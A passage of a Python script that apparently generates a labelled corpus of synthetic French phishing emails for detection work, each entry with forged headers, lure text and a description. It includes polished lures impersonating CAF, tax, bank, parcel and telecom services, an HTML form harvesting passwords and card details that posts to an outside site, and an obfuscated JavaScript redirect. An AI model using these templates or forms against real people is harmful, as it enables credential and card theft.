         hops=[("Received: from [172.93.201.14] (unknown [172.93.201.14])\n\tby dd41822.kasserver.com (Postfix) with ESMTPSA id 4X1b9K0m2Tz1Ab;\n\t{tl}", -4)]),
    slug="ameli-carte-vitale-bitly", cat="phishing", kind="phish",
    desc="Carte Vitale renewal lure sent from a compromised German plumbing firm's mailbox (SPF/DKIM/DMARC pass for that domain) under the display name Assurance Maladie; a bit.ly link leads to a compromised WordPress card form asking 1,49 € of shipping.",
    date="2024-09-12 18:22:40 +0200", to=FOOT, frm=("Assurance Maladie", "info@kleinschmidt-haustechnik.de"),
    subject="Votre nouvelle carte Vitale est disponible à la commande", body=alt(_p, _h, "----=_NextPart_000_0012_01DB0516.5A2C8E70"))

# --- 3. impots.gouv refund, direct spoof failing DMARC p=reject, workers.dev
_u = f"https://remboursement-dgfip.quiet-frost-7c1a.workers.dev/espace-particulier/?dossier={h('impots', 12, UP)}"
_p, _h = kit("impots", "impots.gouv.fr", "#000091", "Avis de remboursement d'impôt", [
    "Bonjour,",
    "Après le calcul définitif de votre impôt sur le revenu 2023, nous avons déterminé que vous êtes éligible à un "
    "remboursement de <b>287,43 €</b>.",
    "Pour recevoir ce montant sur votre compte bancaire, veuillez confirmer vos coordonnées dans votre espace particulier "
    "sous 48 heures. Passé ce délai, le remboursement sera annulé.",
    "Référence du dossier : <b>DGFIP-2024-" + h("impots3", 8, "0123456789") + "</b>",
], "Accéder à mon remboursement", _u,
    "Direction générale des Finances publiques – 139 rue de Bercy – 75012 Paris<br>Ne répondez pas à ce courriel.")
add(dict(ip="91.92.243.117", helo="vmi1849302.contaboserver.net", mailfrom="ne-pas-repondre@dgfip.finances.gouv.fr",
         spf="fail", dkim="none", dmarc="fail", policy="reject", mid=f"<{h('imp', 20)}.{h('imp2', 6)}@dgfip.finances.gouv.fr>",
         xh=["X-Mailer: Microsoft Outlook Express 6.00.2900.5512"]),
    slug="impots-remboursement-spoof-workers", cat="phishing", kind="phish",
    desc="Tax-refund lure that spoofs dgfip.finances.gouv.fr directly from a Contabo VPS (SPF fail, no DKIM, DMARC fail against p=reject); the button leads to a Cloudflare Workers page collecting bank details.",
    date="2024-10-03 10:05:51 +0200", to=KERVELLA, frm=("impots.gouv.fr", "ne-pas-repondre@dgfip.finances.gouv.fr"),
    subject="Vous avez un remboursement en attente – action requise", body=alt(_p, _h, "=_b3d1c0e7a4f2"))

# --- 4. CAF HTML attachment with a credential/card form, from a compromised dental practice mailbox
_form = f"""<!DOCTYPE html><html><head><meta charset="utf-8"><title>caf.fr - Mon Compte</title>
<style>body{{font-family:Arial;background:#eef2f7}}.box{{max-width:460px;margin:40px auto;background:#fff;padding:26px;border-top:6px solid #0b6bb5}}
input{{width:100%;padding:9px;margin:5px 0 12px;border:1px solid #bbb}}button{{background:#0b6bb5;color:#fff;border:0;padding:11px;width:100%}}</style></head>
<body><div class="box"><h2>Caf - Régularisation de vos droits</h2>
<p>Pour recevoir votre rappel de <b>412,80 &euro;</b>, confirmez votre identité.</p>
<form method="POST" action="https://pousadamaresia.com.br/wp-includes/css/dist/caf/envoi.php">
<label>Numéro allocataire</label><input name="num" required>
<label>Code postal</label><input name="cp" required>
<label>Mot de passe Caf</label><input name="mdp" type="password" required>
<label>Nom et prénom</label><input name="nom"><label>Date de naissance</label><input name="dob" placeholder="JJ/MM/AAAA">
<label>Numéro de carte bancaire</label><input name="cc"><label>Expiration</label><input name="exp" placeholder="MM/AA">
<label>Cryptogramme</label><input name="cvv" maxlength="4">
<button type="submit">Valider</button></form></div></body></html>
"""
_p, _h = outlook(["Bonjour,", "",
                  "Suite à une erreur de calcul, un rappel de prestations de 412,80 € vous est dû.",
                  "Merci de compléter le formulaire de régularisation joint et de le valider en ligne pour recevoir le versement sous 72h.",
                  "", "Cordialement,"], "Caisse d'Allocations Familiales\nService régularisation des droits")
add(m365_src("caf", "cabinet-dentaire-hautepierre.fr"),
    slug="caf-html-form-compromised", cat="phishing", kind="phish",
    desc="CAF back-payment lure from a compromised dental practice's Microsoft 365 mailbox (all checks pass); the attached HTML form collects CAF password, identity and card details and posts them to a compromised Brazilian WordPress site.",
    date="2025-04-15 14:37:02 +0200", to=TRESOR, frm=("CAF Régularisation", "secretariat@cabinet-dentaire-hautepierre.fr"),
    subject="Régularisation de vos droits - rappel de 412,80 €",
    body=mixed(alt(_p, _h, "_000_PAXP190MB6611D2E4C8A7F01B8C3AA9E1D9F2PAXP190MB6611EURP_"),
               [attachment("text/html", "Formulaire_Regularisation_CAF.html", _form.encode())],
               "_004_PAXP190MB6611D2E4C8A7F01B8C3AA9E1D9F2PAXP190MB6611EURP_"))

# --- 5. France Travail via Gmail display name and a Google Form
_u = f"https://docs.google.com/forms/d/e/1FAIpQLS{tok('ft', 48)}/viewform?usp=sf_link"
_p, _h = gmail(["Bonjour,", "",
                "Votre dossier de demandeur d'emploi présente une anomalie lors de la dernière actualisation.",
                "Afin d'éviter la suspension de vos allocations (ARE) à compter du 1er du mois prochain, merci de mettre "
                "à jour vos informations personnelles et bancaires via le formulaire sécurisé ci-dessous :", "", _u, "",
                "Sans mise à jour sous 5 jours, votre inscription sera radiée.", "",
                "Cordialement,", "Votre conseiller France Travail", "Agence de Brest Europe"])
add(gmail_src("ft", "francetravail.dossiers.agence@gmail.com"),
    slug="france-travail-google-form", cat="phishing", kind="phish",
    desc="France Travail allowance-suspension threat from a Gmail account with an official-looking display name; the link is a genuine Google Forms form collecting identity and bank details.",
    date="2025-06-02 09:12:33 +0200", to=COMITE, frm=("France Travail", "francetravail.dossiers.agence@gmail.com"),
    subject="France Travail : anomalie sur votre actualisation", body=alt(_p, _h, f"000000000000{h('ftb', 16)}"))

# --- 6. URSSAF majoration, PDF with a link to R2
_u = f"https://pub-{h('urssaf', 32)}.r2.dev/urssaf/espace-cotisant.html?siret=4{h('urs2', 13, '0123456789')}"
_pdf = files.pdf(["URSSAF BRETAGNE", "Avis de mise en demeure avant majoration", "",
                  "Cotisant : MENUISERIE LE FLOCH SARL", "Periode : 4e trimestre 2024",
                  "Montant restant du : 2 846,00 EUR", "Majorations de retard (5 %) : 142,30 EUR", "",
                  "Consultez le detail et regularisez votre situation", "dans votre espace cotisant securise avant le 28/03/2025."],
                 link=(_u, (56, 520, 330, 560)), title="Avis URSSAF")
_p = ("Madame, Monsieur,\n\nVous trouverez ci-joint un avis concernant des cotisations restant dues pour la période du "
      "4e trimestre 2024.\n\nAfin d'éviter l'application de majorations de retard et l'engagement d'une procédure de "
      "recouvrement forcé, nous vous invitons à consulter ce document et à régulariser votre situation avant le 28/03/2025.\n\n"
      "Urssaf Bretagne\nService recouvrement amiable\n")
add(vps("urssaf", "urssaf-recouvrement.fr", "45.138.16.203", mailer=None),
    slug="urssaf-pdf-r2", cat="phishing", kind="phish",
    desc="URSSAF overdue-contributions notice from the look-alike urssaf-recouvrement.fr (own auth passes); the attached PDF's button points to an R2 bucket page imitating the espace cotisant login.",
    date="2025-03-17 08:55:09 +0100", to=GWEN, frm=("Urssaf Bretagne", "recouvrement@urssaf-recouvrement.fr"),
    subject="Avis avant majoration - cotisations 4e trimestre 2024",
    body=mixed(text(_p), [pdf_att("Avis_URSSAF_4T2024.pdf", _pdf)], "----=_Part_88412_1193307821.1742198109000"))

# --- 7. CPF rights expiring, rebrand.ly shortener
_u = "https://rebrand.ly/mcf-droits-2024"
_p, _h = kit("cpf", "Mon Compte Formation", "#2b3990", "Vos droits à la formation expirent bientôt", [
    "Bonjour,",
    "Vous disposez actuellement de <b>1 460,00 €</b> de droits sur votre Compte Personnel de Formation.",
    "Conformément à la réforme en vigueur, <b>les droits non utilisés avant le 31/12/2024 seront définitivement perdus</b>.",
    "Un conseiller peut vous accompagner gratuitement pour choisir une formation éligible (permis, bureautique, langues…). "
    "Il suffit de vous identifier pour conserver vos droits.",
], "Je conserve mes droits", _u,
    "Mon Compte Formation – Service d'information aux titulaires<br>Vous recevez ce message car vous êtes titulaire d'un CPF.")
add(vps("cpf", "moncompteformation-droits.fr", "185.225.74.38", mailer="Sendy 6.0.8"),
    slug="cpf-droits-expirent-shortener", cat="phishing", kind="phish",
    desc="CPF 'your 1 460 € of training rights will be lost' lure from the look-alike moncompteformation-droits.fr; a rebrand.ly link leads to a form harvesting FranceConnect credentials and social-security number.",
    date="2024-11-28 11:20:47 +0100", to=GACCUEIL, frm=("Mon Compte Formation", "info@moncompteformation-droits.fr"),
    subject="Dernier rappel : 1 460 € de droits CPF perdus au 31/12", body=alt(_p, _h, "b1_cpf_5e0a9d2c"))

# --- 8. Chronopost customs fee via an abused SendGrid account
_su = f"https://u3127745.ct.sendgrid.net/ls/click?upn=u001.{tok('chrono', 110)}"
_p, _h = kit("chrono", "Chronopost", "#003f7f", "Votre colis est retenu au centre de tri", [
    "Bonjour,",
    "Votre colis n° <b>XW" + h("chrono2", 9, "0123456789") + "FR</b> est arrivé à notre centre de Rungis mais des "
    "<b>frais de dédouanement de 1,99 €</b> n'ont pas été réglés par l'expéditeur.",
    "Afin de programmer une nouvelle livraison, merci de régler ces frais sous 48 heures. Sans paiement, le colis sera "
    "retourné à l'expéditeur.",
], "Programmer ma livraison", _su,
    "Chronopost SAS – 3 boulevard Romain Rolland – 75014 Paris<br>Cet e-mail est envoyé automatiquement.")
add(dict(ip="149.72.154.232", helo="o1678.ptr2931.sendgrid.net", mailfrom="bounces+3127745-9b1e-accueil=mairie-pleumeur-kerhir.fr@em8812.chrono-suivi-colis.com",
         dkim_d="chrono-suivi-colis.com", sel="s1", sigs=[("chrono-suivi-colis.com", "s1"), ("sendgrid.info", "smtpapi")],
         mid=f"<{tok('chr', 22)}@geopod-ismtpd-12>",
         hops=[("Received: by filterdrecv-6c7d9d8b5f-qk2rv with SMTP id filterdrecv-6c7d9d8b5f-qk2rv-1-6612A3F1-2D\n 2024-04-07 13:02:41.218733811 +0000 UTC m=+2741166.113829231", -2)]),
    slug="chronopost-frais-sendgrid", cat="phishing", kind="phish",
    desc="Chronopost 1,99 € customs-fee lure sent through a SendGrid account for chrono-suivi-colis.com (SPF/DKIM pass via SendGrid); the button is a SendGrid click-tracking redirect to a card-capture page.",
    date="2024-04-07 15:02:38 +0200", to=ACCUEIL, frm=("Chronopost", "suivi@chrono-suivi-colis.com"),
    subject="Votre colis XW" + h("chrono2", 9, "0123456789") + "FR : action requise", body=alt(_p, _h, "b9a2c0e5d1f94e8a"))

# --- 9. Colissimo QR code in the body (inline PNG)
_u = f"https://colis-avis.top/c/{tok('colqr', 12)}"
_h = ('<html><body style="font-family:Arial,sans-serif;background:#fff">'
      '<table width="560" align="center" style="border:1px solid #ddd"><tr><td style="background:#fcc800;padding:14px 20px;font-size:22px;font-weight:bold;color:#003865">colissimo</td></tr>'
      '<tr><td style="padding:20px;font-size:14px;color:#333"><p>Bonjour,</p><p>Notre facteur est passé aujourd\'hui mais n\'a pas pu vous remettre votre colis '
      '<b>6A' + h("colqr2", 11, "0123456789") + '</b> : l\'adresse de livraison est incomplète.</p>'
      '<p>Pour confirmer votre adresse et choisir une nouvelle date de livraison, <b>scannez le QR code ci-dessous avec votre smartphone</b>.</p>'
      '<p style="text-align:center"><img src="cid:qr-colissimo@avis" width="200" height="200" alt="QR code"></p>'
      '<p style="font-size:12px;color:#777">Sans action de votre part sous 5 jours, le colis sera retourné à l\'expéditeur.</p></td></tr></table></body></html>\n')
_p = ("Bonjour,\n\nNotre facteur n'a pas pu vous remettre votre colis : l'adresse de livraison est incomplète.\n"
      "Scannez le QR code avec votre smartphone pour choisir une nouvelle date de livraison.\n")
add(vps("colqr", "colissimo-avis-passage.com", "194.87.218.61"),
    slug="colissimo-qr-body", cat="phishing", kind="phish",
    desc="Colissimo missed-delivery notice from a look-alike domain whose only call to action is a QR code embedded as an inline image, pointing to a .top parcel-fee phishing page (quishing, no clickable link).",
    date="2025-05-21 16:48:03 +0200", to=GACCUEIL, frm=("Colissimo", "avis@colissimo-avis-passage.com"),
    subject="Avis de passage : votre colis n'a pas pu être livré",
    body=Multi("related", "rel_col_7d31", [alt(_p, _h, "alt_col_7d31"), png("qr.png", files.qr_png(_u), "qr-colissimo@avis")], ' type="multipart/alternative";'))

# --- 10. La Poste address update, outlook.fr sender, IPFS gateway
_u = f"https://ipfs.io/ipfs/bafybei{h('lpipfs', 52, 'abcdefghijklmnopqrstuvwxyz234567')}?filename=laposte-suivi.html#comitedesfetes.kerhir@orange.fr"
_p = ("Bonjour,\n\nVotre envoi 1L" + h("lp2", 11, "0123456789") + " est en attente dans notre centre de distribution de Quimper.\n\n"
      "Nous n'avons pas pu le distribuer car votre adresse postale est incomplète (numéro de rue manquant).\n\n"
      "Mettez à jour votre adresse ici : " + _u + "\n\nLa Poste - Service Clients\n")
_h = ('<div style="font-family:Calibri,Arial;font-size:11pt">Bonjour,<br><br>Votre envoi <b>1L' + h("lp2", 11, "0123456789") + '</b> est en attente '
      'dans notre centre de distribution de Quimper.<br><br>Nous n\'avons pas pu le distribuer car votre adresse postale est incomplète '
      '(numéro de rue manquant).<br><br><a href="' + _u + '">Mettre à jour mon adresse de livraison</a><br><br>'
      '<span style="color:#1f3c88"><b>La Poste</b> - Service Clients</span></div>\n')
add(outlookcom_src("lpipfs", "laposte.serviceclients@outlook.fr"),
    slug="laposte-adresse-ipfs", cat="phishing", kind="phish",
    desc="La Poste incomplete-address notice from an outlook.fr account (display name spoof, auth passes for outlook.fr); the link is an IPFS gateway page with the victim's address in the fragment.",
    date="2024-12-09 12:31:55 +0100", to=COMITE, frm=("La Poste - Service Clients", "laposte.serviceclients@outlook.fr"),
    subject="Votre colis est en attente - adresse incomplète", body=alt(_p, _h, "_000_AS8P189MB2231C0A3_"))

# --- 11. Mondial Relay, PHP mail() from a compromised website, link to another compromised WordPress
_u = f"https://www.gite-les-hortensias-vendee.fr/wp-content/plugins/mr-relay/relais/?suivi={h('mr', 8, '0123456789')}&k={tok('mr2', 16)}"
_p, _h = kit("mr", "Mondial Relay", "#96154a", "Votre Point Relais® a changé", [
    "Bonjour,",
    "Le Point Relais® initialement choisi pour votre colis n° <b>" + h("mr", 8, "0123456789") + "</b> est temporairement fermé.",
    "Votre colis a été redirigé. Pour choisir un nouveau Point Relais® proche de chez vous et confirmer la livraison, "
    "des frais de réacheminement de <b>2,40 €</b> sont à régler.",
], "Choisir mon Point Relais", _u, "Mondial Relay – Groupe InPost<br>Merci de ne pas répondre à cet e-mail.")
add(dict(ip="51.91.11.208", helo="vps-8a3f12c4.vps.ovh.net", mailfrom="www-data@vps-8a3f12c4.vps.ovh.net",
         spf="none", dkim="none", dmarc="none", mid=f"<{h('mrmid', 32)}@boulangerie-lehir-29.fr>",
         xh=["X-Mailer: PHP/8.1.2-1ubuntu2.14", "X-PHP-Originating-Script: 33:wp-cache.php"]),
    slug="mondial-relay-wordpress", cat="phishing", kind="phish",
    desc="Mondial Relay 're-routing fee' lure sent by a PHP script on a compromised bakery website (no SPF/DKIM/DMARC); the link sits in a plugin folder of a compromised gîte WordPress.",
    date="2025-01-22 19:09:26 +0100", to=FOOT, frm=("Mondial Relay", "contact@boulangerie-lehir-29.fr"),
    subject="Mondial Relay : votre colis attend un nouveau Point Relais", body=alt(_p, _h, "b1_c3f7e9a1d0b2"))

# --- 12. Crédit Agricole SécuriPass activation, look-alike domain
_u = f"https://ca-securipass-activation.com/ca-finistere/particulier/acceder-a-mes-comptes.html?session={tok('ca', 28)}"
_p, _h = kit("ca", "Crédit Agricole", "#006a4e", "Activation obligatoire de SécuriPass", [
    "Cher(e) client(e),",
    "Dans le cadre de la directive européenne DSP2, l'activation du service <b>SécuriPass</b> est désormais obligatoire pour "
    "valider vos opérations en ligne et l'ajout de nouveaux bénéficiaires.",
    "Votre accès à la banque en ligne sera <b>restreint à partir du 20/11/2024</b> si l'activation n'est pas effectuée.",
    "L'opération ne prend que quelques minutes.",
], "Activer SécuriPass", _u,
    "Crédit Agricole du Finistère – Société coopérative à capital variable<br>Ceci est un message automatique.")
add(vps("ca", "ca-securipass-activation.com", "104.234.167.21", mailer=None),
    slug="credit-agricole-securipass-lookalike", cat="phishing", kind="phish",
    desc="Crédit Agricole SécuriPass 'mandatory activation' notice from the look-alike ca-securipass-activation.com (its own auth passes) linking to a clone of the Finistère regional bank's login.",
    date="2024-11-14 08:03:29 +0100", to=ELU, frm=("Crédit Agricole", "securipass@ca-securipass-activation.com"),
    subject="SécuriPass : activation requise avant le 20/11", body=alt(_p, _h, "b1_ca_04d9e2f1a7c3"))


# --- 13. BNP Paribas fake fraud department, callback only (no link), Gmail
_p, _h = gmail(["Madame, Monsieur,", "",
                "Notre service de surveillance a détecté une tentative de paiement inhabituelle sur votre compte professionnel :", "",
                "Montant : 1 249,00 EUR", "Bénéficiaire : AMZ MKTP EU SARL", "Date : 08/07/2025 à 06h12", "",
                "Cette opération a été mise en attente par mesure de sécurité.",
                "Si vous n'êtes pas à l'origine de cette opération, contactez immédiatement notre service opposition au "
                "01 89 71 43 26 (appel non surtaxé, 7j/7) afin de procéder à l'annulation et au remboursement.", "",
                "Pour votre sécurité, ne communiquez jamais vos codes par e-mail.", "",
                "Service Sécurité Fraude", "BNP Paribas Entreprises & Professionnels"])
add(gmail_src("bnp", "securite.fraude.bnpparibas@gmail.com"),
    slug="bnp-faux-conseiller-callback", cat="phishing", kind="phish",
    desc="Fake BNP Paribas fraud-department alert from a Gmail address with no link at all: it asks the firm to call a 'service opposition' number, the opening of a faux-conseiller phone scam.",
    date="2025-07-08 07:02:14 +0200", to=GWEN, frm=("BNP Paribas - Sécurité", "securite.fraude.bnpparibas@gmail.com"),
    subject="Opération suspecte sur votre compte - 1 249,00 EUR", body=alt(_p, _h, f"000000000000{h('bnpb', 16)}"))

# --- 14. Société Générale Pass Sécurité, HTML attachment redirecting with JavaScript
_dest = f"https://particuliers-sg-pass.com/icd/pass-securite/?id={tok('sg', 24)}"
_html = (f'<!DOCTYPE html><html><head><meta charset="utf-8"><title>Chargement...</title></head><body>'
         f'<p style="font-family:Arial">Veuillez patienter, redirection vers votre espace sécurisé...</p>'
         f'<script>var _0x1a=["{base64.b64encode(_dest.encode()).decode()}"];'
         f'setTimeout(function(){{window.location.replace(atob(_0x1a[0])+"&e="+btoa("erwan@garage-kervella.fr"));}},800);</script>'
         f'</body></html>\n')
_p = ("Cher client,\n\nVotre Pass Sécurité doit être renouvelé suite à la mise à jour de votre application.\n"
      "Sans action de votre part, vos virements et paiements en ligne seront bloqués sous 24h.\n\n"
      "Ouvrez le document ci-joint pour procéder au renouvellement.\n\nSociété Générale\nService Clients\n")
add(vps("sg", "sg-pass-securite.info", "146.70.87.159", mailer=None),
    slug="societe-generale-html-redirect", cat="phishing", kind="phish",
    desc="Société Générale Pass Sécurité renewal notice from a look-alike domain; the attached HTML page decodes a base64 URL and redirects with JavaScript to a fake SG login, appending the victim's address.",
    date="2025-09-23 13:44:58 +0200", to=KERVELLA, frm=("Société Générale", "service.client@sg-pass-securite.info"),
    subject="Renouvellement de votre Pass Sécurité",
    body=mixed(text(_p), [attachment("text/html", "PassSecurite_Renouvellement.html", _html.encode())], "----=_Part_sg_2025_0923"))

# --- 15. LCL strong authentication, Google AMP open redirect
_u = f"https://www.google.com/amp/s/lcl-authentification-client.online/app/connexion/{tok('lcl', 20)}"
_p, _h = kit("lcl", "LCL", "#12163b", "Renforcement de la sécurité de votre espace client", [
    "Chère cliente, cher client,",
    "Afin de vous protéger contre la fraude, LCL renforce l'authentification de votre Espace Client. "
    "Votre appareil de confiance doit être <b>ré-enregistré avant le 05/05/2025</b>.",
    "Au-delà de cette date, les opérations sensibles (virements, ajout de bénéficiaire, paiements en ligne) seront suspendues.",
], "Ré-enregistrer mon appareil", _u,
    "LCL – Le Crédit Lyonnais – SA au capital de 2 037 713 591 € – SIREN 954 509 741 RCS Lyon")
add(vps("lcl", "lcl-securite-client.fr", "5.253.246.74", mailer="Microsoft Office Outlook 12.0"),
    slug="lcl-securite-renforcee-google-amp", cat="phishing", kind="phish",
    desc="LCL 'sécurité renforcée' device re-registration notice from a look-alike; the button goes through a google.com/amp/s/ URL that forwards to the phishing host.",
    date="2025-04-29 17:26:41 +0200", to=TRESOR, frm=("LCL Sécurité", "no-reply@lcl-securite-client.fr"),
    subject="Action requise : ré-enregistrement de votre appareil de confiance", body=alt(_p, _h, "b1_lcl_9f31d7c2e0aa"))

# --- 16. Banque Populaire Certicode Plus from a compromised association mailbox, Firebase hosting
_u = f"https://certicodeplus-bpgo.web.app/?client={h('bp', 10, '0123456789')}"
_p, _h = kit("bp", "Banque Populaire Grand Ouest", "#0a3e8e", "Certicode Plus : votre activation expire", [
    "Bonjour,",
    "Votre service <b>Certicode Plus</b> arrive à expiration. Il est indispensable pour valider vos paiements par carte sur "
    "Internet et vos virements depuis votre espace associations.",
    "Merci de renouveler votre activation avant le <b>31 mars 2025</b> en suivant la procédure sécurisée.",
], "Renouveler Certicode Plus", _u, "Banque Populaire Grand Ouest – Société anonyme coopérative de banque populaire")
add(m365_src("bp", "judo-club-vitreen.fr"),
    slug="banque-populaire-certicode-firebase", cat="phishing", kind="phish",
    desc="Certicode Plus renewal lure sent from the hijacked Microsoft 365 mailbox of a judo club (everything passes) to the football club's treasurer address; the link is a Firebase-hosted Banque Populaire login clone.",
    date="2025-03-26 21:14:09 +0100", to=FOOT, frm=("Banque Populaire", "secretariat@judo-club-vitreen.fr"),
    subject="Certicode Plus - renouvellement obligatoire", body=alt(_p, _h, "_000_PAXP190MB0BP1_"))

# --- 17. Caisse d'Épargne Sécur'Pass, PDF with a QR code
_u = f"https://cepbpl-securpass.com/m/?c={tok('ce', 18)}"
_qpdf = qr_pdf(["CAISSE D'EPARGNE BRETAGNE PAYS DE LOIRE", "", "Mise a jour obligatoire de Secur'Pass",
                "Votre dispositif d'authentification doit etre reactive.",
                "Scannez le code ci-dessous avec l'appareil photo de votre telephone", "et suivez les instructions.", "",
                "Sans reactivation avant le 15/10/2025, vos operations en ligne", "seront limitees."], _u, "SecurPass")
_p = ("Bonjour,\n\nVeuillez trouver ci-joint les instructions de réactivation de votre Sécur'Pass.\n"
      "Pour votre sécurité, cette procédure doit être réalisée depuis votre smartphone.\n\n"
      "Caisse d'Epargne Bretagne Pays de Loire\n")
add(vps("ce", "ce-securpass-info.fr", "185.174.100.33", mailer=None),
    slug="caisse-epargne-pdf-qr", cat="phishing", kind="phish",
    desc="Caisse d'Épargne Sécur'Pass reactivation notice from a look-alike whose attached PDF carries only a QR code to the phishing site, moving the victim to a phone.",
    date="2025-10-07 09:38:20 +0200", to=OGEC, frm=("Caisse d'Epargne", "securpass@ce-securpass-info.fr"),
    subject="Réactivation de votre Sécur'Pass", body=mixed(text(_p), [pdf_att("Reactivation_SecurPass.pdf", _qpdf)], "=_ce_b7c4a01d"))

# --- 18. Crédit Mutuel, hotmail display name, Canva design link
_u = f"https://www.canva.com/design/DAG{tok('cm', 8)}/{tok('cm2', 22)}/view?utm_content=DAG{tok('cm', 8)}&utm_campaign=designshare&utm_medium=link2&utm_source=uniquelinks"
_p = ("Bonjour,\n\nDans le cadre de la mise à jour de notre application, votre Confirmation Mobile doit être "
      "validée de nouveau. Consultez la procédure :\n" + _u + "\n\nCordialement,\nCrédit Mutuel - Service Client\n")
_h = ('<div style="font-family:Segoe UI,Arial;font-size:14px">Bonjour,<br><br>Dans le cadre de la mise à jour de notre application, '
      'votre <b>Confirmation Mobile</b> doit être validée de nouveau.<br><br>'
      f'<a href="{_u}">Consulter la procédure de validation</a><br><br>Cordialement,<br>Crédit Mutuel - Service Client</div>\n')
add(outlookcom_src("cm", "creditmutuel.infoclient@hotmail.com"),
    slug="credit-mutuel-canva", cat="phishing", kind="phish",
    desc="Crédit Mutuel 'Confirmation Mobile' message from a hotmail.com account; the link is a genuine Canva design whose button leads to the credential page.",
    date="2025-02-18 11:57:36 +0100", to=MCONTACT, frm=("Crédit Mutuel", "creditmutuel.infoclient@hotmail.com"),
    subject="Confirmation Mobile : validation requise", body=alt(_p, _h, "_000_AS8P189MB3120_"))

# --- 19. Orange unpaid bill, look-alike sender, compromised WordPress with the address in the query
_u = "http://www.brasserie-le-trefle.be/wp-admin/css/colors/ocean/orange/index.php?email=jeanyves.morvan@wanadoo.fr"
_p, _h = kit("orange", "orange", "#ff7900", "Échec du prélèvement de votre facture", [
    "Bonjour,",
    "Le prélèvement de votre facture Orange du mois de <b>février 2024</b> d'un montant de <b>42,99 €</b> a été rejeté par votre banque.",
    "Pour éviter la suspension de vos services Internet et téléphone, merci de mettre à jour vos informations de paiement.",
], "Régulariser ma facture", _u, "Orange SA – 111 quai du Président Roosevelt – 92130 Issy-les-Moulineaux")
add(vps("orange", "espace-client-orange.info", "193.149.185.12", mailer="WebService/1.1.22"),
    slug="orange-facture-wanadoo", cat="phishing", kind="phish",
    desc="Orange rejected-direct-debit notice sent to a Wanadoo address from espace-client-orange.info; the link is a compromised Belgian WordPress page pre-filled with the victim's address.",
    date="2024-03-11 06:52:07 +0100", to=ELU, frm=("Orange", "factures@espace-client-orange.info"),
    subject="Votre facture Orange : échec de paiement", body=alt(_p, _h, "b1_or_2c8e0f71"))

# --- 20. SFR refund, Netlify
_u = f"https://sfr-remboursement-client.netlify.app/?avoir={h('sfr', 8, '0123456789')}"
_p, _h = kit("sfr", "SFR", "#e2001a", "Un remboursement de 48,90 € vous attend", [
    "Bonjour,",
    "Suite à une double facturation de votre abonnement Box de SFR, un avoir de <b>48,90 €</b> a été émis en votre faveur.",
    "Pour recevoir le remboursement, veuillez confirmer la carte bancaire sur laquelle il doit être crédité.",
], "Recevoir mon remboursement", _u, "SFR – Service Clients – 16 rue du Général Alain de Boissieu – 75015 Paris")
add(vps("sfr", "sfr-avoirs-client.fr", "179.43.176.18"),
    slug="sfr-remboursement-netlify", cat="phishing", kind="phish",
    desc="SFR double-billing refund lure from the look-alike sfr-avoirs-client.fr that asks for the card 'to be credited' on a Netlify-hosted page.",
    date="2024-06-19 15:30:12 +0200", to=GACCUEIL, frm=("SFR Service Client", "avoir@sfr-avoirs-client.fr"),
    subject="SFR : remboursement de 48,90 € en attente", body=alt(_p, _h, "b1_sfr_6d0f2a93"))

# --- 21. Free, Freebox subscription suspended
_u = f"https://subscribe-freebox-abonne.com/espace-abonne/paiement.php?id={h('free', 10, '0123456789')}"
_p, _h = kit("free", "free", "#cd1e25", "Suspension de votre abonnement Freebox", [
    "Cher abonné,",
    "Nous n'avons pas pu prélever le montant de votre dernière facture (<b>39,99 €</b>).",
    "Sans régularisation sous 72 heures, votre ligne Freebox sera suspendue et des frais de remise en service de 50 € s'appliqueront.",
], "Régulariser maintenant", _u, "Free – 16 rue de la Ville-l'Évêque – 75008 Paris")
add(vps("free", "free-abonne-facture.fr", "77.91.124.66", mailer=None),
    slug="free-freebox-suspension", cat="phishing", kind="phish",
    desc="Freebox suspension threat to a free.fr subscriber that puts facturation@free.fr in From while the envelope and server belong to free-abonne-facture.fr (SPF passes unaligned, no DKIM, DMARC fails under free.fr's p=none), linking to a card-payment page on another look-alike.",
    date="2025-08-04 10:11:45 +0200", to=TRESOR, frm=("Free", "facturation@free.fr"), dkim="none", dmarc="fail", policy="none",
    subject="Votre abonnement Freebox sera suspendu", body=alt(_p, _h, "b1_free_8a17c0d3"))

# --- 22. Bouygues Telecom Entreprises, tinyurl
_u = "https://tinyurl.com/bytel-pro-fact2025"
_p, _h = kit("bytel", "Bouygues Telecom Entreprises", "#009dcc", "Votre facture est impayée", [
    "Madame, Monsieur,",
    "Sauf erreur de notre part, votre facture n° <b>FE-2025-" + h("bytel2", 7, "0123456789") + "</b> d'un montant de <b>186,40 € TTC</b> "
    "n'a pas été réglée à l'échéance.",
    "Afin d'éviter toute interruption de vos lignes professionnelles, nous vous invitons à procéder au règlement.",
], "Consulter et régler ma facture", _u, "Bouygues Telecom Entreprises – 37-39 rue Boissière – 75116 Paris")
add(vps("bytel", "bouygues-entreprises-facture.com", "185.196.9.44"),
    slug="bouygues-facture-tinyurl", cat="phishing", kind="phish",
    desc="Unpaid Bouygues Telecom Entreprises bill sent to the school from a look-alike domain; a TinyURL link hides the card-capture destination.",
    date="2025-11-05 08:17:52 +0100", to=DIRECTION, frm=("Bouygues Telecom Entreprises", "facturation@bouygues-entreprises-facture.com"),
    subject="Relance : facture impayée - Bouygues Telecom Entreprises", body=alt(_p, _h, "b1_bt_51ee0c27"))

# --- 23. EDF chèque énergie through an abused Brevo account
_bl = lambda k: f"https://{h('edfb', 4)}.r.sp1-brevo.net/mk/cl/f/sh/{tok('edf' + k, 30)}/{tok('edf2' + k, 14)}"
_p, _h = kit("edf", "EDF", "#001a70", "Votre chèque énergie 2025 est disponible", [
    "Bonjour,",
    "Vous êtes éligible au <b>chèque énergie 2025</b> d'un montant de <b>277 €</b>.",
    "Pour qu'il soit déduit automatiquement de vos prochaines factures d'électricité, confirmez votre éligibilité et vos "
    "coordonnées avant le 30 juin.",
], "Valider mon chèque énergie", _bl("btn"),
    "EDF – Électricité de France – 22-30 avenue de Wagram – 75008 Paris<br>"
    f'<a href="{_bl("unsub")}" style="color:#888">Se désinscrire</a>')
add(dict(ip="77.32.148.21", helo="s21.mta.sendinblue.com", mailfrom=f"bounces-{h('edfr', 8, '0123456789')}@sendinblue.com",
         dkim_d="info-cheque-energie.fr", sel="brevo1", sigs=[("info-cheque-energie.fr", "brevo1"), ("sendibm3.com", "mail")],
         mid=f"<202505.{h('edfm', 14, '0123456789')}@smtp-relay.mailin.fr>",
         xh=[f"X-Mailin-Campaign: {h('edfc', 3, '0123456789')}", f"X-Mailin-Client: {h('edfcl', 7, '0123456789')}", "Feedback-ID: 7.2841017.7182:brevo"]),
    slug="edf-cheque-energie-brevo", cat="phishing", kind="phish",
